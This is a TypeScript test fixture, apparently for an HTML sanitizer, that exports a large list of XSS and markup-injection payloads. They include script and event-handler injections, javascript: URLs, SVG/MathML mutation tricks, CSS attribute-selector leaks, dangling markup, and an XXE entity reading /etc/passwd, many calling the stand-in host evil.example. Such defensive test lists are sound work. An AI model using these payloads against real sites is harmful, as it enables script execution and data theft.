/** The lines of a text. */
export const lines = (text: string) => text.split('\n').filter(Boolean)

const scripts = lines(`
<script>ran=1</script>
<script src=//evil.example/a.js></script>
<SCRIPT/x>ran=1</SCRIPT>
<scr<script>ipt>ran=1</scr</script>ipt>
<script type=module>ran=1</script>
<script type="importmap">{"imports":{"/":"//evil.example/"}}</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//evil.example/"]}]}</script>
"><script>ran=1</script>
'><script>ran=1</script>
</title><script>ran=1</script>
</textarea><script>ran=1</script>
</style></script><script>ran=1</script>
</script><script>ran=1</script>
]]><script>ran=1</script>
--><script>ran=1</script>
<noscript><p title="</noscript><script>ran=1</script>">
<template><script>ran=1</script></template>
<template shadowrootmode=open><script>ran=1</script></template>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<iframe src=//evil.example/></iframe>
<object data=//evil.example/></object>
<embed src=//evil.example/>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=//evil.example/a.css>
<link rel=prefetch href=//evil.example/>
<link rel=dns-prefetch href=//evil.example>
<form action=//evil.example/><button>Sign in</button></form>
<form id=body><input name=children></form>
<img name=getElementById>
<a id=ran></a><a id=ran name=href>
<input autofocus onfocus=ran=1>
<portal src=//evil.example/>
`)

const handlers = lines(`
onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover onpointerenter onanimationstart
ontransitionend ontoggle onbeforetoggle onscroll onscrollend onwheel oncopy onpaste oncut oninput onchange
oninvalid onselect onsubmit onreset onkeydown onbeforeinput ondragstart oncontextmenu oncanplay onloadstart
`).flatMap((line) => line.split(' '))
const tags = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'input autofocus', 'p tabindex=0']
const events = handlers.map((handler, at) => `<${tags[at % tags.length]} ${handler}=ran=1>`)

const addresses = lines(String.raw`
javascript:ran=1
JaVaScRiPt:ran=1
javascript://evil.example/%0aran=1
java&#10;script:ran=1
javascript&colon;ran=1
&#106;avascript:ran=1
data:text/html,<script>opener.ran=1</script>
data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==
vbscript:ran=1
blob:https://evil.example/1
//evil.example/
\\evil.example\share
https:evil.example
file:///etc/passwd
view-source:javascript:ran=1
<a href=javascript:ran=1>call back</a>
<a href="java	script:ran=1">call back</a>
<a href=//evil.example/ ping=//evil.example/>call back</a>
<iframe src=javascript:parent.ran=1></iframe>
<form action=javascript:ran=1><button autofocus>Go</button></form>
<button formaction=javascript:ran=1>Go</button>
[call back](javascript:ran=1)
![face](//evil.example/a.png)
<javascript:ran=1>
`)

const drawings = lines(`
<svg onload=ran=1>
<svg><script>ran=1</script></svg>
<svg><script href=//evil.example/a.js /></svg>
<svg><a xlink:href=javascript:ran=1><text y=9>Go</text></a></svg>
<svg><animate onbegin=ran=1 attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:ran=1></svg>
<svg><use href=//evil.example/a.svg#b></svg>
<svg><image href=//evil.example/a.png></svg>
<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>
<svg></p><style><a id="</style><img src=x onerror=ran=1>">
<svg><style><img src=x onerror=ran=1></style></svg>
<math href=javascript:ran=1>click</math>
<math><mtext><table><mglyph><style><img src=x onerror=ran=1>
<math><maction actiontype=statusline xlink:href=javascript:ran=1>click
<math><annotation-xml encoding="text/html"><img src=x onerror=ran=1>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran=1 src>">
`)

const styles = lines(String.raw`
<style>*{background:url(//evil.example/a.png)}</style>
<style>@import '//evil.example/a.css';</style>
<p style="background:url(//evil.example/a.png)">
<p style=position:fixed;inset:0;z-index:9999>
<p style="animation:x" onanimationstart=ran=1>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/a)}body{font-family:x}</style>
;}*{display:none}
color:red;background:url(javascript:ran=1)
width:expression(ran=1)
-moz-binding:url(//evil.example/a.xml)
\65 xpression(ran=1)
</style><img src=x onerror=ran=1>
`)

const dangling = lines(String.raw`
<!--
<!-- comment --><img src=x onerror=ran=1>
<!--><img src=x onerror=ran=1>
<!--[if gte IE 4]><script>ran=1</script><![endif]-->
--!><img src=x onerror=ran=1>
<img src='//evil.example/?
<img src="//evil.example/?
<a href='//evil.example/?
<link rel=stylesheet href='//evil.example/?
<base target='
<textarea>
<title>
<plaintext>
<xmp>
<select><option>
<table><td>
</div></main></body></html>
" onmouseover="ran=1
' onmouseover='ran=1
" autofocus onfocus=ran=1 x="
<![CDATA[<img src=x onerror=ran=1>]]>
<?xml-stylesheet href="//evil.example/a.xsl"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
&lt;script&gt;ran=1&lt;/script&gt;
&#x3c;img src=x onerror=ran=1&#x3e;
%3Cscript%3Eran=1%3C/script%3E
\u003cscript\u003eran=1\u003c/script\u003e
\x3cimg src=x onerror=ran=1\x3e
＜script＞ran=1＜/script＞
<ſcript>ran=1</ſcript>
`)

/** Each payload sets the global `ran` if it runs, requests evil.example, or breaks out of its element. */
export const hostileMarkup = [...scripts, ...events, ...addresses, ...drawings, ...styles, ...dangling]
